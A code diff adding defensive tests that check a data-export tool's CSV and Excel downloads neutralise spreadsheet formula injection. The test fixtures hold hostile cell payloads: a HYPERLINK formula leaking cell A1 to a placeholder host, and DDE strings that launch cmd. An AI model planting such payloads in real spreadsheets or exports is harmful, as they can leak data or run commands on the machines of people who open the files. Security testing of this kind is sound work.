@@ -201,3 +201,56 @@ def test_research_csv_xlsx_and_parquet_carry_the_rule(warehouse, tmp_path):
     import pyarrow.parquet as pq
 
     assert pq.read_schema(parquet).metadata[b"dhr:rule"].decode() == policy.rule
+
+
+# Formula injection (issue 15): every download is read back and no cell is a formula.
+HOSTILE = '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")'
+HOSTILE_TEXTS = {
+    "action": HOSTILE,
+    "progress": "+cmd|' /C calc'!A0",
+    "outcome": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "responsible_lead": "-2+3",
+    "milestones": "\t=1+1",
+    "recommendation": "=1+1",
+}
+
+
+def assert_no_formula(path: Path) -> list:
+    """Every cell of every sheet: never a formula; a formula-like text is a text cell Excel keeps as text."""
+    from dhr.safe_cells import is_formula_like
+
+    wb = openpyxl.load_workbook(path)
+    cells = [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    hostile = [c for c in cells if is_formula_like(c.value)]
+    assert all(c.data_type == "s" and c.quotePrefix for c in hostile), [(c.coordinate, c.value) for c in hostile]
+    return [c.value for c in cells]
+
+
+def test_annex_b_writes_formula_like_text_as_text_and_reads_it_back(warehouse, tmp_path):
+    rows = data.get_action_plan_rows(HACKNEY).with_columns(
+        *(pl.lit(text).alias(name) for name, text in HOSTILE_TEXTS.items()))
+    files = unzip(annex_b.zip_for_rows("Hackney", rows, None), tmp_path)
+    workbook = next(p for p in files if p.suffix == ".xlsx")
+    values = assert_no_formula(workbook)
+    assert HOSTILE in values  # the text itself is kept: the CSP sees and returns what it wrote
+    parsed = parse_file(workbook)
+    assert parsed.errors == []
+    assert {a["action"] for a in parsed.rows["action_plan__actions"]} == {HOSTILE}
+
+
+def test_research_csv_and_xlsx_escape_formula_like_text(warehouse, tmp_path):
+    import csv
+
+    from dhr.safe_cells import is_formula_like
+
+    frame, counts, policy = data.get_controlled_research_table("DHRs by status")
+    frame = frame.with_columns(pl.lit(HOSTILE).alias(frame.columns[0]))
+    export = research.ResearchExport("DHRs by status", frame, counts, policy, "all regions")
+    text = research.to_csv_bytes(export).decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text)))
+    assert rows and all(not is_formula_like(field) for row in rows for field in row)
+    assert any(field == "'" + HOSTILE for row in rows for field in row)
+    path = tmp_path / "research.xlsx"
+    path.write_bytes(research.to_xlsx_bytes(export))
+    assert HOSTILE in assert_no_formula(path)
